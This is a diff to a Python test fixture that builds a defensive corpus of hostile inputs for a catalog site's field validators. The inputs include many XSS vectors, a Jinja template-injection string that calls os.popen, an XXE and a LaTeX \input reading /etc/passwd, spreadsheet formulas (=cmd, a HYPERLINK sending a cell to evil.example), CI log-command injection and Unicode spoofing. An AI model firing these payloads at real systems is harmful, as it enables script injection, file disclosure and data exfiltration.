@@ -1,11 +1,8 @@
-"""What a hostile contributor might write into a record, and how to write it into every field."""
+"""What a hostile contributor might write into a field: for browsers, Markdown, exports, logs and others."""
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-from typing import Any
-
-from pydantic import BaseModel
+import re
 
 RUN = "window.__pwned=1"
 TEXTS = (
@@ -13,7 +10,9 @@ TEXTS = (
     "{{ 1234*5678 }}",
     "{{ cycler.__init__.__globals__.os.popen('echo PWN$((6*7))').read() }}",
     "{% raw %}{% endraw %}{{ 1234*5678 }}",
+    '{% include "catalog/list.html" %}',
     "{# a comment that does not end",
+    "{{constructor.constructor('window.__pwned=1')()}}",
     # elements
     f"<script>{RUN}</script>",
     f"<img src=x onerror={RUN}>",
@@ -21,43 +20,103 @@ TEXTS = (
     f'"><svg/onload={RUN} x="',
     f"</title><script>{RUN}</script>",
     f"</script><script>{RUN}</script>",
+    f"</textarea></template></noscript></style><script>{RUN}</script>",
     f"&lt;script&gt;{RUN}&lt;/script&gt;",
     f"&#60;img src=x onerror={RUN}&#62;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
     "<!-- a comment that does not end",
+    f"--!><img src=x onerror={RUN}>",
     "<![CDATA[ <b>",
+    "<?xml version='1.0'?><?php evil(); ?>",
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
     "<textarea>",
     "<plaintext>",
-    '<div id="catalog-fragment-0"></div>',  # our own place-holder for HTML
+    "<template><b>",
     "<style>*{display:none}</style>",
     "<base href=//evil.example>",
     "<base href=https://evil.example/><a href=x>x</a>",
     '<meta http-equiv=refresh content="0;url=https://evil.example/">',
     '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
     "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<img srcset='//evil.example/1x.png 1x' style=background:url(//evil.example)>",
+    f"<form action=javascript:{RUN}><button formaction=javascript:{RUN} autofocus>x</button></form>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video></details>",
+    f"<input autofocus onfocus={RUN}><marquee onstart={RUN}>x</marquee>",
+    f"<object data=javascript:{RUN}></object><embed src=//evil.example/x.swf>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<ScRiPt\t>{RUN}</sCrIpT\t>",
     "</h1></article></main></body></html>",
+    # what stands for other things in our own pages
+    '<div id="catalog-fragment-0"></div>',
+    "pour-content-<h1&#x27;-here",
+    "pour-title-&#39;-here pour-head-&#x27;-here",
     # attributes
     f'" onmouseover="{RUN}" x="',
+    f'" autofocus onfocus="{RUN}',
     f"' onfocus='{RUN}' autofocus x='",
+    f"` onmouseover={RUN} `",
     # Markdown
     f"{{: onclick={RUN} }}",
     f"# h {{: onmouseover={RUN} }}",
     f"[x](javascript:{RUN})",
+    f"<javascript:{RUN}>",
     f"![x](x){{ onerror={RUN} }}<i>",
     '--8<-- "mkdocs.yml"',
     # characters
     "\u202egnp.exe",
     "bell\u0007 and escape\u001b[31m",
     "zero\u200bwidth",
+    f"nul\0<\0script>{RUN}",
+    "a line\u2028::error ::b\u2029c\x85d",
+    "a mark of order \ufeff, and \u2066turned\u2069",
+    # for RIS and BibTeX
+    "a\nER  - \n\nTY  - JOUR",
+    "@article{evil, title = {Evil}}",
+    "@comment{ @string{x = {y}} @preamble{",
 )
 """None of these is plain text: the checks refuse each of them in every field."""
 PLAIN = (
-    "]]>",
     "`code` **bold** _em_ ~~gone~~",
     "# h",
     "| a | b |",
-    "$('#x') ${x} %s %(x)s \\1",
+    "[[wiki]] [x]: https://evil.example/ [^1] [TOC] *[HTML]: x",
+    '!!! note "x"',
+    "::: catalog.cli",
+    "??? question",
+    ":material-account: :tada: ++ctrl+c++ ==mark== ^^ins^^",
+    "$$x$$ \\(x\\) \\[x\\]",
+    "```mermaid",
+    "$('#x') ${x} %s %(x)s {0} {x} \\1",
     "A < B > C & D",
-    f'" autofocus onfocus="{RUN}',
+    f'" style="x:expression({RUN})" x="',
+    "*{background:url(//evil.example/x)}@import 'x';</ style>",
+    "+ADw-script+AD4-window.__pwned+AD0-1+ADw-/script+AD4-",
+    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e \u02bcx\u02ba \u2039b\u203a",
+    "p\u0430ypal and pаypal",
+    # names that every object of JavaScript has
+    "constructor",
+    "__proto__",
+    "toString valueOf hasOwnProperty",
+    "__proto__[pwned]=1&constructor.prototype.pwned=1",
+    # for other programs: XML, BibTeX, LaTeX, RIS, spreadsheets, the log of a workflow, mail
+    "]]>",
+    "AT&T &amp without its end",
+    "}, year = {1999}, note = {",
+    "\\input{/etc/passwd} \\write18{id} \\catcode`\\%=12",
+    "=cmd|'/C calc'!A0",
+    "+1-1 @SUM(1)",
+    "-2+3",
+    "@SUM(1+1)",
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    '","=1+1","',
+    "::error file=x,line=1::gone",
+    "%0A::add-mask::a %0d%0aSet-Cookie: a=b",
+    "##[error]x ::stop-commands::x",
+    "@everyone closes #1 and GH-2",
     f"https://ok.example/'onmouseover='{RUN}",  # a sound address, apart from what it says
 )
 """These are plain text, though some program might take them for more."""
@@ -70,57 +129,31 @@ URLS = (
     f"data:text/html,<script>{RUN}</script>",
     "data:text/html;base64,PHNjcmlwdD4=",
     f"vbscript:{RUN}",
+    f"blob:https://ok.example/{RUN}",
+    f"view-source:javascript:{RUN}",
     "//evil.example/x",
+    "/\\evil.example/x",
     "https:evil.example",
+    "https:///evil.example/",
     "\\\\evil.example\\x",
     "https://user:pass@evil.example/",
+    "https://ok.example@evil.example/",
+    "https://ok.example\\@evil.example/",
+    "https://ev\u0456l.example/",
+    "https://127.0.0.1/x",
+    "https://[::1]/x",
     f'https://ok.example/" onmouseover="{RUN}',
     "https://ok.example/<script>",
     "https://ok.example/{{ 1234*5678 }}",
+    "https://ok.example/\u202egnp.exe",
     "file:///etc/passwd",
+    "mailto:a@evil.example",
 )
 """Addresses that must not become links."""
 ALL = TEXTS + PLAIN + URLS
-
-IDS = frozenset(("id", "file", "venue", "categories", "tags", "source", "sources", "parent", "proceedings"))
-IDS |= {"paper", "papers", "former", "replaces"}
-"""Fields that name a record: they stay well-formed, for a page to be built at all."""
+WORD = re.compile("[a-z_]+")
 
 
-def hostile(record: BaseModel, text: str) -> dict[str, Any]:
-    """The free-text fields of a record, each with the text; fields of fixed shape are left out.
-
-    Found by what the fields hold, not by name: a new field is attacked without a change here.
-    """
-    return dict(_attacks(type(record), text))
-
-
-def _attacks(model: type[BaseModel], text: str) -> Iterator[tuple[str, Any]]:
-    for name, field in model.model_fields.items():
-        shape = str(field.annotation)
-        inner = [field.annotation, *getattr(field.annotation, "__args__", ())]
-        models = [one for one in inner if isinstance(one, type) and issubclass(one, BaseModel)]
-        if name in IDS and not (name == "source" and model.__name__ == "Fact"):
-            continue
-        if models:
-            inside = models[0].model_validate(MINIMAL.get(models[0].__name__, {}))
-            attacked = inside.model_copy(update=hostile(inside, text))
-            yield name, (attacked,) if "tuple" in shape else attacked
-        elif name in ("authors", "spellings"):  # a name has letters, for its address
-            yield name, (f"{text} Eve", f"{text} Mallory")
-        elif "Literal" in shape or "date" in shape or "int" in shape or "bool" in shape:
-            if "dict" in shape:
-                yield name, {text: 7, f"{text}2": 8}
-        elif "dict" in shape:
-            yield name, {text: 7.5}
-        elif "tuple" in shape:
-            yield name, (text, f"{text}/2")
-        elif "str" in shape:
-            yield name, text
-
-
-MINIMAL = {
-    "Claim": {"source": "napkin"},
-    "Fact": {"states": "x", "source": "https://toys.example/"},
-}
-"""The least that an inner record asks for."""
+def name_of(kind: str, at: int) -> str:
+    """The id of the hostile record of a kind with a text of ALL; the text itself, where it is a word."""
+    return ALL[at] if WORD.fullmatch(ALL[at]) and kind in ("venues", "tags") else f"{kind}{at}-2020"
